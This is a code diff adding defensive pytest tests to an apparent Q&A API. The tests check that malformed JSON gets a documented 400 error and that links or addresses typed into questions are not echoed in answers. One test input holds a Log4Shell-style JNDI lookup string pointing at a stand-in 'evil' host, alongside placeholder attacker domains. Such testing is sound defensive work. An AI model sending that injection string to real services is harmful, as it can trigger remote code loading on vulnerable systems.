@@ -47,6 +47,24 @@ def test_a_body_that_is_not_a_json_object_says_to_send_one(client, content, kind
     assert r.status_code == 422 and "Content-Type: application/json" in r.json()["detail"]
 
 
+@pytest.mark.parametrize("body", [b"{bad", b'{"question": "a"} xxx', b'{"question": "\xe5\x85\xbb\xe8\x80\x81"'])
+def test_a_body_that_is_not_json_is_400_as_documented(client, body):
+    # an attack (seventeenth round): these were 422 json_invalid, while /openapi.json documents 400
+    r = client.post("/api/ask", content=body, headers={"content-type": "application/json"})
+    assert r.status_code == 400 and "could not be parsed as JSON" in r.json()["detail"]
+    assert "bad" not in r.text and "xxx" not in r.text
+    documented = client.get("/openapi.json").json()["paths"]["/api/ask"]["post"]["responses"]
+    assert "400" in documented
+
+
+@pytest.mark.parametrize("question", ["规划有没有提到www.evil.com", "规划有没有提到evil@example.com",
+                                      "规划提到${jndi:ldap://evil/a}了吗", "Does the plan mention evil.example.com?"])
+def test_a_link_or_address_typed_is_not_repeated_in_the_answer(client, question):
+    # an attack (seventeenth round): "没有提到“www.evil.com”" would render as a link the assistant gives
+    r = client.post("/api/ask", json={"question": question}).json()
+    assert not r["found"] and "evil" not in r["answer"] and "（链接）" in r["answer"]
+
+
 def test_undecodable_body_says_to_send_utf8(client):
     r = client.post("/api/ask", content=b'{"question": "\xff\xfe"}', headers={"content-type": "application/json"})
     assert r.status_code == 400 and "UTF-8" in r.json()["detail"]
